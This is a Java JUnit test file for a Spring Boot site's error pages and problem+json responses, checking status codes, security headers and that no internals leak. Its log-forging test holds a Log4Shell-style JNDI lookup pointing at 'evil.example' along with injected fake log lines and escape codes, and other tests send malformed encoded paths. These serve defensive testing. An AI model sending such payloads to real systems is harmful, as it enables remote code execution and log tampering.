package openland.page;

import static org.assertj.core.api.Assertions.assertThat;

import gg.jte.Content;
import jakarta.servlet.FilterChain;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.SQLException;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import openland.base.Refusal;
import openland.base.Refusal.Problem;
import openland.base.Refusal.Reason;
import openland.base.Time;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.ObjectProvider;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.autoconfigure.SpringBootApplication;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.FullyQualifiedAnnotationBeanNameGenerator;
import org.springframework.context.annotation.Import;
import org.springframework.core.env.Environment;
import org.springframework.dao.DataAccessResourceFailureException;
import org.springframework.jdbc.UncategorizedSQLException;
import org.springframework.security.config.annotation.web.builders.HttpSecurity;
import org.springframework.security.web.SecurityFilterChain;
import org.springframework.transaction.CannotCreateTransactionException;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.PathVariable;
import org.springframework.web.bind.annotation.PostMapping;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestMapping;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.bind.annotation.RequestPart;
import org.springframework.web.bind.annotation.ResponseBody;
import org.springframework.web.filter.OncePerRequestFilter;
import org.springframework.web.multipart.MultipartException;
import org.springframework.web.multipart.MultipartFile;
import org.springframework.web.servlet.ModelAndView;

/** The pages alone, with rooms that fail in every way. */
@PagesOnly
@ExtendWith(OutputCaptureExtension.class)
class ErrorsTest {
    @Autowired Environment environment;

    @Test
    void a_refusal_tells_a_program_its_reason_and_every_field() {
        var answer = wire().get("/api/refused");
        assertThat(answer.status()).isEqualTo(422);
        assertThat(answer.header("Content-Type")).isEqualTo("application/problem+json");
        assertThat(answer.body()).contains("{\"type\":\"about:blank\",\"title\":\"请求有误\",\"status\":422,\"detail\":\"正文里有身份证号码。\","
                + "\"instance\":\"/api/refused\",\"problems\":[{\"field\":\"body\",\"sentence\":\"<b>第2段\"}]}");
    }

    @Test
    void a_refusal_tells_a_person_the_same_on_a_page() {
        var answer = wire().get("/refused", "Accept: text/html,*/*;q=0.8");
        assertThat(answer.status()).isEqualTo(422);
        assertThat(answer.header("Content-Type")).isEqualTo("text/html;charset=UTF-8");
        assertThat(answer.header("Cache-Control")).isEqualTo("no-store");
        assertThat(answer.body()).contains("<h1>请求有误</h1>", "正文里有身份证号码。", "<li>body：&lt;b&gt;第2段</li>", "跳到正文", "action=\"/search\"", "</html>");
    }

    @ParameterizedTest
    @CsvSource({"application/json", "application/problem+json;q=0.9", "image/png", "application/xml, application/json"})
    void who_does_not_take_HTML_gets_problem_json_anywhere(String accept) {
        assertThat(wire().get("/refused", "Accept: " + accept).header("Content-Type")).isEqualTo("application/problem+json");
    }

    @ParameterizedTest
    @CsvSource(value = {"GET /nowhere|404|没有这个页面", "GET /api/nowhere|404|没有这个页面", "GET /number?n=x|400|参数n的值不对",
        "GET /api/number|400|缺少参数n", "GET /thing/x|404|没有这个页面", "GET /day?on=2026-02-30|400|参数on", "POST /api/number?n=1|405|不接受这种请求方法",
        "GET /number?n=%ff|400|写法不对", "GET /number?n=%zz|400|写法不对"}, delimiter = '|')
    void a_wrong_request_gets_a_sentence_that_helps(String line, int status, String sentence) {
        var answer = wire().send(line, "", "Accept: */*");
        assertThat(answer.status()).isEqualTo(status);
        assertThat(answer.body()).contains(sentence);
        assertThat(answer.header("Content-Type")).startsWith(line.contains(" /api/") ? "application/problem+json" : "text/html");
        assertNothingInside(answer);
    }

    @Test
    void what_the_server_itself_refuses_bears_the_strict_headers_too() {
        for (var target : List.of("/%zz", "/a%00b", "/%ff", "//x", "/a%2Fb", "/a;b", "/api/%2F", "/" + "x".repeat(9_000), "/refused")) {
            var answer = wire().get(target, "Accept: text/html");
            assertThat(answer.status()).as(target).isBetween(400, 499);
            assertThat(answer.body()).as(target).contains(target.startsWith("/api/") ? "\"detail\":" : "<h1>");
            for (var name : List.of("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy", "Permissions-Policy",
                    "Cross-Origin-Opener-Policy", "Cross-Origin-Resource-Policy", "X-Frame-Options")) {
                assertThat(answer.headers(name)).as(target + " " + name).hasSize(1);
            }
            assertNothingInside(answer);
        }
    }

    @Test
    void what_somebody_typed_is_never_a_line_of_the_log(CapturedOutput log) {
        var forged = "2026-11-22T05:09:20.665Z  INFO 1 --- [openland] Everything is well";
        wire().get("/typed?text=" + URLEncoder.encode("${jndi:ldap://evil.example/a}\r\n" + forged + "\n\u001b[2J\u2028" + forged, StandardCharsets.UTF_8));
        assertThat(log.getAll().lines().filter(line -> line.contains("Everything is well"))).hasSize(2)
                .allMatch(line -> line.contains("${jndi:ldap://evil.example/a}⏎" + forged + "⏎⏎[2J⏎" + forged));
        assertThat(log.getAll()).contains("\tat openland.page.ErrorsTest").doesNotContain("\u001b[2J");
    }

    @Test
    void a_wrong_method_is_told_the_right_ones() {
        assertThat(wire().send("DELETE /api/number", "").header("Allow")).isEqualTo("GET");
    }

    @ParameterizedTest
    @CsvSource(value = {"{\"name\":|JSON在第1行", "{\"nam\":\"x\"}|不认识字段nam", "{\"age\":\"old\"}|字段age的值不对", "[]|第1行第1列", "|读不懂"}, delimiter = '|')
    void a_body_that_cannot_be_read_is_told_where(String body, String sentence) {
        var answer = wire().send("POST /api/body", body == null ? "" : body, "Content-Type: application/json");
        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.body()).contains(sentence);
        assertNothingInside(answer);
    }

    @Test
    void another_type_of_body_is_refused_with_the_types_that_are_taken() {
        var answer = wire().send("POST /api/body", "name: x", "Content-Type: text/yaml");
        assertThat(answer.status()).isEqualTo(415);
        assertThat(answer.header("Accept")).contains("application/json");
    }

    @Test
    void an_upload_without_its_file_or_too_large_is_refused() {
        assertThat(upload("other", "x").status()).isEqualTo(400);
        var large = upload("file", "x".repeat(300_000));
        assertThat(large.status()).isEqualTo(413);
        assertThat(large.body()).contains("内容太大");
    }

    @ParameterizedTest
    @ValueSource(strings = {"resource", "transaction", "08006", "57P01", "53300"})
    void a_lost_database_is_no_error_of_the_program(String how, CapturedOutput log) {
        wire().get("/refused", "Accept: text/html");
        for (var path : List.of("/lost?how=", "/api/lost?how=")) {
            var answer = wire().get(path + how);
            assertThat(answer.status()).isEqualTo(503);
            assertThat(answer.header("Retry-After")).isEqualTo("2");
            assertThat(answer.body()).contains("数据库暂时连不上");
        }
        assertThat(log.getAll()).doesNotContain("Error ");
        assertThat(wire().get("/lost?how=" + how).body()).contains("主办：青禾县自然资源局", "<b>演示</b>");
    }

    @ParameterizedTest
    @CsvSource({"22021,400", "22001,400", "23505,409", "42703,500", "53100,507", "full,507", "upload,507"})
    void other_errors_of_the_database_are_told_apart(String state, int status) {
        var answer = wire().get("/lost?how=" + state);
        assertThat(answer.status()).isEqualTo(status);
        assertNothingInside(answer);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/unexpected", "/api/unexpected", "/half", "/filtered", "/api/filtered"})
    void what_nobody_expected_shows_an_id_and_is_logged_once(String path, CapturedOutput log) {
        var answer = wire().get(path, "Accept: text/html");
        assertThat(answer.status()).isEqualTo(500);
        assertNothingInside(answer);
        var id = answer.body().replaceAll("(?s).*(?:<code>|\"error\":\")([0-9a-f]{8}).*", "$1");
        assertThat(log.getAll()).containsOnlyOnce("Error " + id).containsOnlyOnce("Exception: secret of the room\n");
    }

    @Test
    void nothing_of_a_page_that_fails_halfway_is_sent() {
        var answer = wire().get("/half");
        assertThat(answer.body()).contains("<h1>程序出错</h1>").doesNotContain("the first half").containsOnlyOnce("<!doctype html>");
    }

    @Test
    void what_the_container_refuses_gets_the_same_page() {
        var answer = wire().get("/sent");
        assertThat(answer.status()).isEqualTo(403);
        assertThat(answer.body()).contains("<h1>不能办理</h1>");
        assertThat(wire().get("/error").status()).isEqualTo(404);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/%zz", "/%ff%fe", "/api/%zz", "/a%00b", "/%c0%ae"})
    void an_address_that_is_no_text_is_a_bad_request(String path) {
        var answer = wire().get(path);
        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.body()).contains("写法不对");
        assertNothingInside(answer);
    }

    private Wire.Answer upload(String part, String content) {
        return wire().send("POST /api/upload", "--x\r\nContent-Disposition: form-data; name=\"" + part
                + "\"; filename=\"a\"\r\n\r\n" + content + "\r\n--x--\r\n", "Content-Type: multipart/form-data; boundary=x");
    }

    private static void assertNothingInside(Wire.Answer answer) {
        assertThat(answer.body()).doesNotContain("secret", "Exception", "openland.page", "org.", "java.", "Tomcat", "Whitelabel", "\tat ");
    }

    private Wire wire() {
        return Wire.to(environment);
    }

    @SpringBootApplication(scanBasePackages = "openland.page", nameGenerator = FullyQualifiedAnnotationBeanNameGenerator.class, excludeName = {
        "org.springframework.boot.jdbc.autoconfigure.DataSourceAutoConfiguration",
        "org.springframework.boot.flyway.autoconfigure.FlywayAutoConfiguration",
        "org.springframework.boot.session.jdbc.autoconfigure.JdbcSessionAutoConfiguration"})
    @Import({Time.class, Rooms.class})
    static class Site {
        @Bean
        SecurityFilterChain open(HttpSecurity http) {
            return http.csrf(csrf -> csrf.disable()).authorizeHttpRequests(routes -> routes.anyRequest().permitAll()).build();
        }

        /** Whoever owns the site is asked of the database too. */
        @Bean
        SiteSource owner(ObjectProvider<HttpServletRequest> request) {
            return () -> {
                if (request.getObject().getRequestURI().startsWith("/lost")) {
                    throw new DataAccessResourceFailureException("secret");
                }
                return new Frame.Site("青禾县自然资源局", true);
            };
        }

        @Bean
        OncePerRequestFilter filtered() {
            return new OncePerRequestFilter() {
                @Override
                protected void doFilterInternal(HttpServletRequest request, HttpServletResponse response, FilterChain chain)
                        throws jakarta.servlet.ServletException, IOException {
                    if (request.getRequestURI().endsWith("/filtered")) {
                        throw new IllegalStateException("secret of the room");
                    }
                    chain.doFilter(request, response);
                }
            };
        }
    }

    record Body(String name, @Nullable Integer age) {}

    @org.springframework.stereotype.Controller
    static class Rooms {
        @GetMapping({"/refused", "/api/refused"})
        void refused() {
            throw new Refusal(Reason.UNPROCESSABLE, "正文里有身份证号码。", List.of(new Problem("body", "<b>第2段")));
        }

        @GetMapping({"/number", "/api/number"})
        @ResponseBody
        String number(@RequestParam int n) {
            return "" + n;
        }

        @GetMapping("/thing/{id}")
        @ResponseBody
        String thing(@PathVariable UUID id) {
            return "" + id;
        }

        @GetMapping("/day")
        @ResponseBody
        String day(@RequestParam LocalDate on) {
            return "" + on;
        }

        @PostMapping("/api/body")
        @ResponseBody
        String body(@RequestBody Body body) {
            return body.name();
        }

        @PostMapping("/api/upload")
        @ResponseBody
        String upload(@RequestPart MultipartFile file) {
            return "" + file.getSize();
        }

        @RequestMapping({"/lost", "/api/lost"})
        void lost(@RequestParam String how) {
            throw switch (how) {
                case "resource" -> new DataAccessResourceFailureException("secret");
                case "transaction" -> new CannotCreateTransactionException("secret");
                case "full" -> new UncheckedIOException(new IOException("secret: No space left on device"));
                case "upload" -> new MultipartException("secret", new IOException("secret: No space left on device"));
                default -> new UncategorizedSQLException("secret", "select", new SQLException("secret", how));
            };
        }

        @GetMapping({"/unexpected", "/api/unexpected"})
        void unexpected() {
            throw new IllegalStateException("secret of the room");
        }

        @GetMapping("/typed")
        void typed(@RequestParam String text) {
            LoggerFactory.getLogger(Rooms.class).warn("Typed {}", text);
            throw new IllegalStateException("Typed " + text);
        }

        @GetMapping("/half")
        ModelAndView half() {
            return new ModelAndView("page/layout", Map.of("title", "the first half", "content", (Content) output -> {
                output.writeContent("<p>the first half");
                throw new IllegalStateException("secret of the room");
            }));
        }

        @GetMapping("/sent")
        void sent(HttpServletResponse response) throws IOException {
            response.sendError(403, "secret");
        }
    }
}
